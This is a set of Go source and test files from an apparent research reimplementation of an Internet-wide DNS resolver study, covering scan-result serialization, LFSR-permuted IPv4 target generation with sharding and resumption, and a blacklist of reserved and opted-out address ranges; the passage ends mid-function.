	pre := &prefilter.Result{Verdicts: [][]prefilter.Class{{prefilter.ClassLegit, prefilter.ClassUnanswered}}}
	var buf bytes.Buffer
	if err := WriteTuples(&buf, scan, pre); err != nil {
		t.Fatal(err)
	}
	recs, err := ReadTuples(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 {
		t.Fatalf("records = %d, want 2 (one per answer address)", len(recs))
	}
	if recs[0].Domain != "chase.com" || recs[0].Resolver != "0.0.3.232" || recs[0].Verdict != "legitimate" {
		t.Errorf("record = %+v", recs[0])
	}
	if recs[1].IP != "0.0.0.101" {
		t.Errorf("second address = %+v", recs[1])
	}
}

func TestReadRejectsGarbage(t *testing.T) {
	if _, err := ReadSweep(strings.NewReader("not json\n")); err == nil {
		t.Error("garbage accepted")
	}
	if _, err := ReadSweep(strings.NewReader(`{"addr":"999.1.2.3","source":"1.2.3.4","rcode":"NOERROR"}`)); err == nil {
		// Sscanf is lenient about octet ranges; just ensure no panic.
		t.Log("lenient address parsing tolerated")
	}
}

func TestEmptyStreams(t *testing.T) {
	got, err := ReadSweep(strings.NewReader(""))
	if err != nil || len(got) != 0 {
		t.Errorf("empty sweep: %v %v", got, err)
	}
	recs, err := ReadTuples(strings.NewReader(""))
	if err != nil || len(recs) != 0 {
		t.Errorf("empty tuples: %v %v", recs, err)
	}
}
