// Package dataset serializes scan results as line-delimited JSON, the
// role of the paper's published dataset ("Upon request, we further
// provide access to all datasets that we addressed throughout our
// analyses"). Every record type round-trips losslessly, and a manifest
// pins the world configuration so a published dataset is reproducible
// bit-for-bit.
package dataset

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/prefilter"
	"goingwild/internal/scanner"
)

// Manifest pins the provenance of a dataset.
type Manifest struct {
	Paper     string `json:"paper"`
	Order     uint   `json:"order"`
	Seed      uint64 `json:"seed"`
	ScanSeed  uint32 `json:"scan_seed"`
	Week      int    `json:"week"`
	Generator string `json:"generator"`
}

// SweepRecord is one responder of an Internet-wide scan.
type SweepRecord struct {
	Addr     string `json:"addr"`
	Source   string `json:"source"`
	RCode    string `json:"rcode"`
	Answered bool   `json:"answered"`
}

// TupleRecord is one (domain ∘ ip ∘ resolver) tuple with its prefilter
// verdict.
type TupleRecord struct {
	Domain   string `json:"domain"`
	Resolver string `json:"resolver"`
	IP       string `json:"ip"`
	Verdict  string `json:"verdict"`
}

func ip4(u uint32) string { return lfsr.U32ToAddr(u).String() }

// parseIP4 reverses ip4.
func parseIP4(s string) (uint32, error) {
	var a, b, c, d int
	if _, err := fmt.Sscanf(s, "%d.%d.%d.%d", &a, &b, &c, &d); err != nil {
		return 0, fmt.Errorf("dataset: bad address %q: %w", s, err)
	}
	return uint32(a)<<24 | uint32(b)<<16 | uint32(c)<<8 | uint32(d), nil
}

// WriteManifest writes the provenance header file.
func WriteManifest(w io.Writer, m Manifest) error {
	enc := json.NewEncoder(w)
	return enc.Encode(m)
}

// ReadManifest parses a manifest.
func ReadManifest(r io.Reader) (Manifest, error) {
	var m Manifest
	err := json.NewDecoder(r).Decode(&m)
	return m, err
}

// WriteSweep serializes a sweep result as JSONL.
func WriteSweep(w io.Writer, res *scanner.SweepResult) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, r := range res.Responders {
		rec := SweepRecord{
			Addr: ip4(r.Addr), Source: ip4(r.Source),
			RCode: r.RCode.String(), Answered: r.Answered,
		}
		if err := enc.Encode(rec); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadSweep parses a sweep JSONL stream back into responder records.
func ReadSweep(r io.Reader) ([]scanner.Responder, error) {
	var out []scanner.Responder
	dec := json.NewDecoder(bufio.NewReader(r))
	for {
		var rec SweepRecord
		if err := dec.Decode(&rec); err == io.EOF {
			break
		} else if err != nil {
			return nil, err
		}
		addr, err := parseIP4(rec.Addr)
		if err != nil {
			return nil, err
		}
		src, err := parseIP4(rec.Source)
		if err != nil {
			return nil, err
		}
		out = append(out, scanner.Responder{
			Addr: addr, Source: src,
			RCode: parseRCode(rec.RCode), Answered: rec.Answered,
		})
	}
	return out, nil
}

func parseRCode(s string) dnswire.RCode {
	for rc := dnswire.RCode(0); rc < 16; rc++ {
		if rc.String() == s {
			return rc
		}
	}
	return dnswire.RCodeNoError
}

// WriteTuples serializes a domain scan's prefiltered tuples: every
// answered tuple with its verdict, plus the unexpected answer addresses.
func WriteTuples(w io.Writer, scan *scanner.DomainScanResult, pre *prefilter.Result) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for ni, name := range scan.Names {
		for ri := range scan.Resolvers {
			verdict := pre.Verdicts[ni][ri]
			if verdict == prefilter.ClassUnanswered {
				continue
			}
			a := &scan.Answers[ni][ri]
			if len(a.Addrs) == 0 {
				rec := TupleRecord{
					Domain: name, Resolver: ip4(scan.Resolvers[ri]),
					IP: "", Verdict: verdict.String(),
				}
				if err := enc.Encode(rec); err != nil {
					return err
				}
				continue
			}
			for _, ip := range a.Addrs {
				rec := TupleRecord{
					Domain: name, Resolver: ip4(scan.Resolvers[ri]),
					IP: ip4(ip), Verdict: verdict.String(),
				}
				if err := enc.Encode(rec); err != nil {
					return err
				}
			}
		}
	}
	return bw.Flush()
}

// ReadTuples parses a tuple JSONL stream.
func ReadTuples(r io.Reader) ([]TupleRecord, error) {
	var out []TupleRecord
	dec := json.NewDecoder(bufio.NewReader(r))
	for {
		var rec TupleRecord
		if err := dec.Decode(&rec); err == io.EOF {
			break
		} else if err != nil {
			return nil, err
		}
		out = append(out, rec)
	}
	return out, nil
}
