// Package lfsr implements the maximal-length linear feedback shift
// registers the scanner uses to permute its target address sequence
// (Going Wild §2.2, following Durumeric et al.'s scanning guidelines):
// iterating an order-n maximal LFSR visits every value in [1, 2^n-1]
// exactly once in a pseudo-random order, so consecutive probes land in
// unrelated networks and no network receives a burst of requests.
//
// The package also provides the scanner-facing target generator, which
// maps LFSR states onto a (possibly scaled-down) IPv4 address space and
// skips reserved ranges and the operator's opt-out blacklist.
package lfsr

import (
	"errors"
	"fmt"
	"math/bits"
)

// ErrBadOrder reports an unsupported register width.
var ErrBadOrder = errors.New("lfsr: order must be between 3 and 32")

// taps holds maximal-length feedback tap masks per order (XAPP 052 / Ward &
// Molteno tables). Bit i of the mask corresponds to tap position i+1.
var taps = map[uint]uint32{
	3:  tapMask(3, 2),
	4:  tapMask(4, 3),
	5:  tapMask(5, 3),
	6:  tapMask(6, 5),
	7:  tapMask(7, 6),
	8:  tapMask(8, 6, 5, 4),
	9:  tapMask(9, 5),
	10: tapMask(10, 7),
	11: tapMask(11, 9),
	12: tapMask(12, 6, 4, 1),
	13: tapMask(13, 4, 3, 1),
	14: tapMask(14, 5, 3, 1),
	15: tapMask(15, 14),
	16: tapMask(16, 15, 13, 4),
	17: tapMask(17, 14),
	18: tapMask(18, 11),
	19: tapMask(19, 6, 2, 1),
	20: tapMask(20, 17),
	21: tapMask(21, 19),
	22: tapMask(22, 21),
	23: tapMask(23, 18),
	24: tapMask(24, 23, 22, 17),
	25: tapMask(25, 22),
	26: tapMask(26, 6, 2, 1),
	27: tapMask(27, 5, 2, 1),
	28: tapMask(28, 25),
	29: tapMask(29, 27),
	30: tapMask(30, 6, 4, 1),
	31: tapMask(31, 28),
	32: tapMask(32, 22, 2, 1),
}

func tapMask(positions ...uint) uint32 {
	var m uint32
	for _, p := range positions {
		m |= 1 << (p - 1)
	}
	return m
}

// LFSR is a Galois-form maximal-length linear feedback shift register of a
// given order. The zero state is unreachable; the register cycles through
// all 2^order-1 nonzero states.
type LFSR struct {
	state uint32
	seed  uint32
	mask  uint32 // value mask: low `order` bits
	fb    uint32 // feedback toggle mask (tap positions, order bit included)
}

// New returns an LFSR of the given order seeded with seed. The seed is
// reduced into the register's nonzero state space; any seed is accepted.
func New(order uint, seed uint32) (*LFSR, error) {
	fb, ok := taps[order]
	if !ok {
		return nil, fmt.Errorf("%w: %d", ErrBadOrder, order)
	}
	mask := uint32(1)<<order - 1
	if order == 32 {
		mask = ^uint32(0)
	}
	s := seed & mask
	if s == 0 {
		s = 1 // zero is the one forbidden state
	}
	return &LFSR{state: s, seed: s, mask: mask, fb: fb}, nil
}

// MustNew is New for statically valid orders; it panics on error.
func MustNew(order uint, seed uint32) *LFSR {
	l, err := New(order, seed)
	if err != nil {
		panic(err)
	}
	return l
}

// Next returns the current state and advances the register one step
// (Galois form: shift right, then toggle the tap bits when a one falls
// off the end).
func (l *LFSR) Next() uint32 {
	out := l.state
	lsb := l.state & 1
	l.state >>= 1
	if lsb == 1 {
		l.state ^= l.fb
	}
	return out
}

// stepMatrix is the GF(2) transition matrix of one Next step, stored in
// column form: m[j] is the image of the basis state 1<<j. The Galois step
// (shift right, toggle taps when a one falls off) is linear over GF(2), so
// any number of steps composes into one matrix and a register can seek in
// O(32² log n) bit operations instead of n iterations.
type stepMatrix [32]uint32

// stepMatrix returns the single-step matrix of this register: bit j shifts
// down to j-1, and bit 0 toggles the feedback taps.
func (l *LFSR) stepMatrix() stepMatrix {
	var m stepMatrix
	m[0] = l.fb
	for j := 1; j < 32; j++ {
		m[j] = 1 << (j - 1)
	}
	return m
}

// apply maps a state through the matrix.
func (m *stepMatrix) apply(s uint32) uint32 {
	var out uint32
	for s != 0 {
		j := bits.TrailingZeros32(s)
		out ^= m[j]
		s &= s - 1
	}
	return out
}

// compose returns the matrix of "a after b" (apply b first, then a).
func (a *stepMatrix) compose(b *stepMatrix) stepMatrix {
	var out stepMatrix
	for j := 0; j < 32; j++ {
		out[j] = a.apply(b[j])
	}
	return out
}

// Jump advances the register by n steps, as if Next had been called n
// times (discarding the outputs), in O(32² log n) time. Jumping past the
// period wraps around, exactly as repeated Next calls would.
func (l *LFSR) Jump(n uint64) {
	if n == 0 {
		return
	}
	pow := l.stepMatrix() // step^(2^k) at iteration k
	s := l.state
	for n > 0 {
		if n&1 == 1 {
			s = pow.apply(s)
		}
		n >>= 1
		if n > 0 {
			pow = pow.compose(&pow)
		}
	}
	l.state = s
}

// Wrapped reports whether the register has returned to its seed state,
// i.e. a full period has been emitted by preceding Next calls.
func (l *LFSR) Wrapped() bool { return l.state == l.seed }

// Period returns the cycle length 2^order-1.
func (l *LFSR) Period() uint64 {
	if l.mask == ^uint32(0) {
		return 1<<32 - 1
	}
	return uint64(l.mask)
}

// Reset rewinds the register to its seed state.
func (l *LFSR) Reset() { l.state = l.seed }
