package lfsr

import (
	"net/netip"
	"testing"
	"testing/quick"
)

// TestMaximalPeriodAllOrders exhaustively verifies maximality up to order
// 20 (a million states) and spot-checks distinctness for larger orders.
func TestMaximalPeriodAllOrders(t *testing.T) {
	for order := uint(3); order <= 20; order++ {
		reg := MustNew(order, 0xDEADBEEF)
		period := reg.Period()
		seen := make([]bool, period+1)
		var count uint64
		for {
			s := reg.Next()
			if s == 0 {
				t.Fatalf("order %d emitted forbidden zero state", order)
			}
			if seen[s] {
				t.Fatalf("order %d repeated state %d after %d steps (period %d)", order, s, count, period)
			}
			seen[s] = true
			count++
			if reg.Wrapped() {
				break
			}
		}
		if count != period {
			t.Errorf("order %d: cycle length %d, want %d", order, count, period)
		}
	}
}

func TestLargeOrderNoEarlyRepeat(t *testing.T) {
	for _, order := range []uint{24, 28, 32} {
		reg := MustNew(order, 1)
		const n = 1 << 20
		seen := make(map[uint32]struct{}, n)
		for i := 0; i < n; i++ {
			s := reg.Next()
			if _, dup := seen[s]; dup {
				t.Fatalf("order %d repeated a state within %d steps", order, n)
			}
			seen[s] = struct{}{}
		}
	}
}

func TestNewRejectsBadOrder(t *testing.T) {
	for _, order := range []uint{0, 1, 2, 33, 64} {
		if _, err := New(order, 1); err == nil {
			t.Errorf("order %d accepted", order)
		}
	}
}

func TestZeroSeedCoerced(t *testing.T) {
	reg := MustNew(16, 0)
	if s := reg.Next(); s == 0 {
		t.Error("zero seed produced zero state")
	}
}

func TestResetRestartsSequence(t *testing.T) {
	reg := MustNew(16, 77)
	a := []uint32{reg.Next(), reg.Next(), reg.Next()}
	reg.Reset()
	b := []uint32{reg.Next(), reg.Next(), reg.Next()}
	if a[0] != b[0] || a[1] != b[1] || a[2] != b[2] {
		t.Errorf("reset sequence differs: %v vs %v", a, b)
	}
}

func TestSeedDeterminism(t *testing.T) {
	f := func(seed uint32) bool {
		r1 := MustNew(20, seed)
		r2 := MustNew(20, seed)
		for i := 0; i < 100; i++ {
			if r1.Next() != r2.Next() {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestBlacklistContains(t *testing.T) {
	b := NewBlacklist()
	if err := b.AddCIDR("198.51.100.0/24"); err != nil {
		t.Fatal(err)
	}
	if err := b.AddAddr(netip.MustParseAddr("8.8.8.8")); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		addr string
		want bool
	}{
		{"198.51.100.0", true},
		{"198.51.100.255", true},
		{"198.51.101.0", false},
		{"198.51.99.255", false},
		{"8.8.8.8", true},
		{"8.8.8.9", false},
	}
	for _, c := range cases {
		if got := b.Contains(netip.MustParseAddr(c.addr)); got != c.want {
			t.Errorf("Contains(%s) = %v, want %v", c.addr, got, c.want)
		}
	}
}

func TestBlacklistMergesOverlaps(t *testing.T) {
	b := NewBlacklist()
	for _, cidr := range []string{"10.0.0.0/24", "10.0.0.128/25", "10.0.1.0/24"} {
		if err := b.AddCIDR(cidr); err != nil {
			t.Fatal(err)
		}
	}
	if b.Len() != 1 {
		t.Errorf("adjacent+overlapping ranges merged into %d, want 1", b.Len())
	}
	if b.Size() != 512 {
		t.Errorf("Size = %d, want 512", b.Size())
	}
}

func TestDefaultReservedCoversKnownRanges(t *testing.T) {
	b := DefaultReserved()
	for _, addr := range []string{"10.1.2.3", "127.0.0.1", "192.168.1.1", "224.0.0.1", "255.255.255.255", "0.1.2.3"} {
		if !b.Contains(netip.MustParseAddr(addr)) {
			t.Errorf("reserved address %s not blacklisted", addr)
		}
	}
	for _, addr := range []string{"8.8.8.8", "1.1.1.1", "93.184.216.34"} {
		if b.Contains(netip.MustParseAddr(addr)) {
			t.Errorf("public address %s blacklisted", addr)
		}
	}
}

func TestBlacklistRejectsIPv6(t *testing.T) {
	b := NewBlacklist()
	if err := b.AddCIDR("2001:db8::/32"); err == nil {
		t.Error("IPv6 CIDR accepted")
	}
	if err := b.AddAddr(netip.MustParseAddr("2001:db8::1")); err == nil {
		t.Error("IPv6 address accepted")
	}
}

func TestTargetGeneratorFullCoverage(t *testing.T) {
	bl := NewBlacklist()
	if err := bl.AddCIDR("0.0.0.64/26"); err != nil { // 64 addresses inside the 2^10 space
		t.Fatal(err)
	}
	g, err := NewTargetGenerator(10, 99, bl)
	if err != nil {
		t.Fatal(err)
	}
	seen := make(map[uint32]struct{})
	for {
		u, ok := g.NextU32()
		if !ok {
			break
		}
		if bl.ContainsU32(u) {
			t.Fatalf("emitted blacklisted address %d", u)
		}
		if _, dup := seen[u]; dup {
			t.Fatalf("duplicate target %d", u)
		}
		seen[u] = struct{}{}
	}
	// 2^10-1 states minus 64 blacklisted ones (state 0 is never emitted
	// and 0 is not in the blacklist's 64..127 range).
	if want := 1023 - 64; len(seen) != want {
		t.Errorf("coverage = %d targets, want %d", len(seen), want)
	}
}

func TestTargetGeneratorReset(t *testing.T) {
	g, err := NewTargetGenerator(12, 5, nil)
	if err != nil {
		t.Fatal(err)
	}
	a, _ := g.Next()
	g.Reset()
	b, _ := g.Next()
	if a != b {
		t.Errorf("reset changed first target: %v vs %v", a, b)
	}
}

func TestU32AddrRoundTrip(t *testing.T) {
	f := func(u uint32) bool {
		return AddrToU32(U32ToAddr(u)) == u
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
