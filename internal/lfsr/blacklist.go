package lfsr

import (
	"fmt"
	"net/netip"
	"sort"
)

// Blacklist is a set of IPv4 ranges excluded from scanning: well-known
// private and unallocated space plus networks that opted out (the paper's
// operators blacklisted 208 ranges and 50 individual addresses on request,
// ~20.8M addresses in total). Lookup is a binary search over merged,
// sorted ranges.
type Blacklist struct {
	ranges []ipRange // sorted, non-overlapping
	frozen bool
}

type ipRange struct{ lo, hi uint32 }

// NewBlacklist returns an empty blacklist.
func NewBlacklist() *Blacklist { return &Blacklist{} }

// DefaultReserved returns a blacklist preloaded with the non-routable and
// special-purpose IPv4 ranges every Internet-wide scan must skip.
func DefaultReserved() *Blacklist {
	b := NewBlacklist()
	for _, cidr := range []string{
		"0.0.0.0/8",       // "this" network
		"10.0.0.0/8",      // RFC 1918
		"100.64.0.0/10",   // CGN
		"127.0.0.0/8",     // loopback
		"169.254.0.0/16",  // link local
		"172.16.0.0/12",   // RFC 1918
		"192.0.0.0/24",    // IETF protocol assignments
		"192.0.2.0/24",    // TEST-NET-1
		"192.88.99.0/24",  // 6to4 relay anycast
		"192.168.0.0/16",  // RFC 1918
		"198.18.0.0/15",   // benchmarking
		"198.51.100.0/24", // TEST-NET-2
		"203.0.113.0/24",  // TEST-NET-3
		"224.0.0.0/4",     // multicast
		"240.0.0.0/4",     // reserved / broadcast
	} {
		if err := b.AddCIDR(cidr); err != nil {
			panic(err) // static table; cannot fail
		}
	}
	return b
}

// AddCIDR adds an IPv4 prefix in CIDR notation.
func (b *Blacklist) AddCIDR(cidr string) error {
	p, err := netip.ParsePrefix(cidr)
	if err != nil {
		return fmt.Errorf("lfsr: bad blacklist entry %q: %w", cidr, err)
	}
	if !p.Addr().Is4() {
		return fmt.Errorf("lfsr: blacklist entry %q is not IPv4", cidr)
	}
	lo := addrToU32(p.Addr())
	size := uint64(1) << (32 - p.Bits())
	b.addRange(lo, uint32(uint64(lo)+size-1))
	return nil
}

// AddAddr adds a single address.
func (b *Blacklist) AddAddr(addr netip.Addr) error {
	if !addr.Is4() {
		return fmt.Errorf("lfsr: blacklist address %v is not IPv4", addr)
	}
	u := addrToU32(addr)
	b.addRange(u, u)
	return nil
}

func (b *Blacklist) addRange(lo, hi uint32) {
	b.ranges = append(b.ranges, ipRange{lo, hi})
	b.frozen = false
}

// Freeze sorts and merges the ranges now instead of lazily at the first
// lookup. Lookups from a single goroutine never need it, but concurrent
// readers — the sharded sweep's per-shard generators — must Freeze
// first: the lazy path mutates shared state on first use.
func (b *Blacklist) Freeze() { b.freeze() }

// freeze sorts and merges ranges; called lazily before lookups.
func (b *Blacklist) freeze() {
	if b.frozen {
		return
	}
	sort.Slice(b.ranges, func(i, j int) bool { return b.ranges[i].lo < b.ranges[j].lo })
	merged := b.ranges[:0]
	for _, r := range b.ranges {
		if n := len(merged); n > 0 && uint64(r.lo) <= uint64(merged[n-1].hi)+1 {
			if r.hi > merged[n-1].hi {
				merged[n-1].hi = r.hi
			}
			continue
		}
		merged = append(merged, r)
	}
	b.ranges = merged
	b.frozen = true
}

// Contains reports whether addr is blacklisted.
func (b *Blacklist) Contains(addr netip.Addr) bool {
	if !addr.Is4() {
		return true
	}
	return b.ContainsU32(addrToU32(addr))
}

// ContainsU32 reports whether the address (as a big-endian uint32) is
// blacklisted. This is the hot-path form used by the target generator:
// the freeze check and the range binary search are open-coded because
// the generator pays this per raw permutation slot.
//
//lint:hotpath per-slot blacklist check in the target generator
func (b *Blacklist) ContainsU32(u uint32) bool {
	if !b.frozen {
		b.freeze()
	}
	lo, hi := 0, len(b.ranges)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if b.ranges[mid].hi >= u {
			hi = mid
		} else {
			lo = mid + 1
		}
	}
	return lo < len(b.ranges) && b.ranges[lo].lo <= u
}

// Size returns the total number of blacklisted addresses.
func (b *Blacklist) Size() uint64 {
	b.freeze()
	var n uint64
	for _, r := range b.ranges {
		n += uint64(r.hi-r.lo) + 1
	}
	return n
}

// Len returns the number of merged ranges.
func (b *Blacklist) Len() int {
	b.freeze()
	return len(b.ranges)
}

func addrToU32(a netip.Addr) uint32 {
	b := a.As4()
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}

// U32ToAddr converts a big-endian uint32 to a netip.Addr.
func U32ToAddr(u uint32) netip.Addr {
	return netip.AddrFrom4([4]byte{byte(u >> 24), byte(u >> 16), byte(u >> 8), byte(u)})
}

// AddrToU32 converts an IPv4 netip.Addr to its big-endian uint32 form.
func AddrToU32(a netip.Addr) uint32 { return addrToU32(a) }
