package lfsr

import (
	"testing"
)

// collect drains a generator into a slice.
func collect(g *TargetGenerator) []uint32 {
	var out []uint32
	for {
		u, ok := g.NextU32()
		if !ok {
			return out
		}
		out = append(out, u)
	}
}

// TestShardedUnionEqualsPermutation is the tentpole invariant: the
// concatenation-by-slot of the M shard walks is exactly the unsharded
// permutation — same elements, same global order — across orders, shard
// counts, and with and without a blacklist.
func TestShardedUnionEqualsPermutation(t *testing.T) {
	bl := DefaultReserved()
	for _, order := range []uint{12, 16, 20} {
		for _, blacklist := range []*Blacklist{nil, bl} {
			full, err := NewTargetGenerator(order, 0xBEEF, blacklist)
			if err != nil {
				t.Fatal(err)
			}
			want := collect(full)
			for _, m := range []int{2, 3, 4, 8} {
				shards := make([][]uint32, m)
				for i := 0; i < m; i++ {
					g, err := ShardedGenerator(order, 0xBEEF, blacklist, i, m)
					if err != nil {
						t.Fatal(err)
					}
					shards[i] = collect(g)
				}
				// Interleave the shard streams back by slot index. A
				// blacklisted slot is absent from its shard's stream exactly
				// as it is absent from the full walk, so rebuilding the
				// global order needs the raw slot positions: walk the raw
				// register once and pick each slot from its owning shard.
				var merged []uint32
				idx := make([]int, m)
				reg := MustNew(order, 0xBEEF)
				period := reg.Period()
				for pos := uint64(0); pos < period; pos++ {
					u := reg.Next()
					if blacklist != nil && blacklist.ContainsU32(u) {
						continue
					}
					owner := int(pos % uint64(m))
					if idx[owner] >= len(shards[owner]) {
						t.Fatalf("order %d M=%d: shard %d exhausted early at slot %d", order, m, owner, pos)
					}
					if got := shards[owner][idx[owner]]; got != u {
						t.Fatalf("order %d M=%d: shard %d slot mismatch: got %#x want %#x", order, m, owner, got, u)
					}
					idx[owner]++
					merged = append(merged, u)
				}
				for i := 0; i < m; i++ {
					if idx[i] != len(shards[i]) {
						t.Fatalf("order %d M=%d: shard %d emitted %d extra targets", order, m, i, len(shards[i])-idx[i])
					}
				}
				if len(merged) != len(want) {
					t.Fatalf("order %d M=%d: merged %d targets, want %d", order, m, len(merged), len(want))
				}
				for k := range want {
					if merged[k] != want[k] {
						t.Fatalf("order %d M=%d: merged[%d]=%#x want %#x", order, m, k, merged[k], want[k])
					}
				}
			}
		}
	}
}

// TestJumpMatchesNext checks the GF(2) matrix seek against brute-force
// stepping for a spread of distances, including past-period wraps.
func TestJumpMatchesNext(t *testing.T) {
	for _, order := range []uint{3, 12, 16, 20, 32} {
		for _, n := range []uint64{0, 1, 2, 7, 255, 4096, 1<<20 + 17, 1<<34 + 3} {
			jump := MustNew(order, 0xC0FFEE)
			jump.Jump(n)
			step := MustNew(order, 0xC0FFEE)
			// Brute-force only tractable distances; reduce the rest modulo
			// the period first (Jump must agree with that reduction).
			steps := n % step.Period()
			if order <= 20 || n < 1<<21 {
				for i := uint64(0); i < steps; i++ {
					step.Next()
				}
				if jump.state != step.state {
					t.Fatalf("order %d: Jump(%d) state %#x, stepped state %#x", order, n, jump.state, step.state)
				}
			} else {
				ref := MustNew(order, 0xC0FFEE)
				ref.Jump(steps)
				if jump.state != ref.state {
					t.Fatalf("order %d: Jump(%d) != Jump(%d mod period)", order, n, steps)
				}
			}
		}
	}
}

// TestSkipProperty is the satellite's resumability contract: with no
// blacklist, Skip(n) followed by Next equals n Next calls followed by
// Next — for full generators and for shards.
func TestSkipProperty(t *testing.T) {
	for _, tc := range []struct{ shard, of int }{{0, 1}, {0, 4}, {3, 4}, {5, 8}} {
		for _, n := range []uint64{0, 1, 13, 255, 4095, 100_000} {
			skip, err := ShardedGenerator(16, 0x5EED, nil, tc.shard, tc.of)
			if err != nil {
				t.Fatal(err)
			}
			skip.Skip(n)
			walk, err := ShardedGenerator(16, 0x5EED, nil, tc.shard, tc.of)
			if err != nil {
				t.Fatal(err)
			}
			for i := uint64(0); i < n; i++ {
				walk.NextU32()
			}
			if skip.Emitted() != walk.Emitted() {
				t.Fatalf("shard %d/%d Skip(%d): emitted %d, walked %d", tc.shard, tc.of, n, skip.Emitted(), walk.Emitted())
			}
			su, sok := skip.NextU32()
			wu, wok := walk.NextU32()
			if su != wu || sok != wok {
				t.Fatalf("shard %d/%d Skip(%d)+Next = (%#x,%v), walked Next = (%#x,%v)", tc.shard, tc.of, n, su, sok, wu, wok)
			}
		}
	}
}

// TestStateResume round-trips a mid-walk snapshot, with a blacklist in
// play, and checks the resumed stream continues identically.
func TestStateResume(t *testing.T) {
	bl := DefaultReserved()
	for _, tc := range []struct{ shard, of int }{{0, 1}, {2, 4}} {
		g, err := ShardedGenerator(16, 0xABCD, bl, tc.shard, tc.of)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 1000; i++ {
			g.NextU32()
		}
		st := g.State()
		resumed, err := Resume(st, bl)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 5000; i++ {
			gu, gok := g.NextU32()
			ru, rok := resumed.NextU32()
			if gu != ru || gok != rok {
				t.Fatalf("shard %d/%d resumed stream diverges at %d: (%#x,%v) vs (%#x,%v)", tc.shard, tc.of, i, gu, gok, ru, rok)
			}
			if !gok {
				break
			}
		}
	}
}

// TestShardedGeneratorRejectsBadShard covers constructor validation.
func TestShardedGeneratorRejectsBadShard(t *testing.T) {
	for _, tc := range []struct{ shard, of int }{{-1, 4}, {4, 4}, {0, 0}, {1, -2}} {
		if _, err := ShardedGenerator(16, 1, nil, tc.shard, tc.of); err == nil {
			t.Fatalf("ShardedGenerator(%d, %d) accepted", tc.shard, tc.of)
		}
	}
}

// TestShardedReset rewinds a shard to its own offset, not slot zero.
func TestShardedReset(t *testing.T) {
	g, err := ShardedGenerator(14, 0x77, nil, 3, 5)
	if err != nil {
		t.Fatal(err)
	}
	first := collect(g)
	g.Reset()
	second := collect(g)
	if len(first) != len(second) {
		t.Fatalf("reset walk length %d != %d", len(second), len(first))
	}
	for i := range first {
		if first[i] != second[i] {
			t.Fatalf("reset walk diverges at %d", i)
		}
	}
}
