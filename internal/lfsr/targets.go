package lfsr

import (
	"fmt"
	"net/netip"
)

// TargetGenerator yields every address of an IPv4 scan space exactly once
// in LFSR-permuted order, skipping blacklisted addresses. The space is the
// low 2^order addresses of IPv4 when order < 32 (the scaled-down virtual
// Internet), or all of IPv4 for order 32.
//
// A generator can cover the whole permutation (NewTargetGenerator) or one
// deterministic leapfrog shard of it (ShardedGenerator): shard i of M
// emits exactly the permutation slots i, i+M, i+2M, ... so the union of
// the M shards is the original sequence, with no coordination between
// shard walkers.
//
// The LFSR never emits state 0, so address 0 — which is always inside the
// reserved 0.0.0.0/8 block — needs no special casing.
type TargetGenerator struct {
	reg       *LFSR
	blacklist *Blacklist
	// emitted counts raw permutation slots consumed (including
	// blacklisted ones and, on a sharded generator, the other shards'
	// slots leapfrogged over).
	emitted uint64
	period  uint64
	order   uint
	seed    uint32
	// stride is the leapfrog decimation factor (1 for a full-permutation
	// generator); offset is this shard's first slot index.
	stride uint64
	offset uint64
}

// NewTargetGenerator builds a generator over a 2^order address space. A
// nil blacklist skips nothing.
func NewTargetGenerator(order uint, seed uint32, bl *Blacklist) (*TargetGenerator, error) {
	return ShardedGenerator(order, seed, bl, 0, 1)
}

// ShardedGenerator builds shard `shard` of `of` over the 2^order space:
// the walker that emits every of-th slot of the seed's permutation
// starting at slot `shard` (leapfrog decimation, as ZMap shards its
// cyclic-group permutation). Shards of the same (order, seed) partition
// the address space exactly; each is independently resumable via State.
func ShardedGenerator(order uint, seed uint32, bl *Blacklist, shard, of int) (*TargetGenerator, error) {
	if of < 1 || shard < 0 || shard >= of {
		return nil, fmt.Errorf("lfsr: shard %d/%d out of range", shard, of)
	}
	reg, err := New(order, seed)
	if err != nil {
		return nil, err
	}
	g := &TargetGenerator{
		reg:       reg,
		blacklist: bl,
		period:    reg.Period(),
		order:     order,
		seed:      seed,
		stride:    uint64(of),
		offset:    uint64(shard),
	}
	g.reg.Jump(g.offset)
	g.emitted = g.offset
	return g, nil
}

// Next returns the next non-blacklisted target. ok is false once the
// generator's share of the permutation has been exhausted.
func (g *TargetGenerator) Next() (addr netip.Addr, ok bool) {
	u, ok := g.NextU32()
	if !ok {
		return netip.Addr{}, false
	}
	return U32ToAddr(u), true
}

// NextU32 is Next without the netip conversion, for hot scan loops.
//
//lint:hotpath per-probe target generation; senders pull these in a tight loop
func (g *TargetGenerator) NextU32() (u uint32, ok bool) {
	for g.emitted < g.period {
		v := g.reg.Next()
		g.emitted++
		// Leapfrog over the other shards' slots (no-op when stride is 1).
		for s := uint64(1); s < g.stride && g.emitted < g.period; s++ {
			g.reg.Next()
			g.emitted++
		}
		if g.blacklist != nil && g.blacklist.ContainsU32(v) {
			continue
		}
		return v, true
	}
	return 0, false
}

// NextBatch fills dst with the next non-blacklisted targets and reports
// how many it produced. A short (or zero) count only happens at the end of
// the generator's share of the permutation. Streaming senders pull batches
// under a shared lock so the generator is touched once per batch, not once
// per probe.
//
//lint:hotpath per-probe target generation; senders pull these in a tight loop
func (g *TargetGenerator) NextBatch(dst []uint32) int {
	n := 0
	bl := g.blacklist
	if g.stride == 1 {
		// Unsharded fast path: no leapfrog loop, blacklist check hoisted.
		for n < len(dst) && g.emitted < g.period {
			u := g.reg.Next()
			g.emitted++
			if bl != nil && bl.ContainsU32(u) {
				continue
			}
			dst[n] = u
			n++
		}
		return n
	}
	for n < len(dst) && g.emitted < g.period {
		u := g.reg.Next()
		g.emitted++
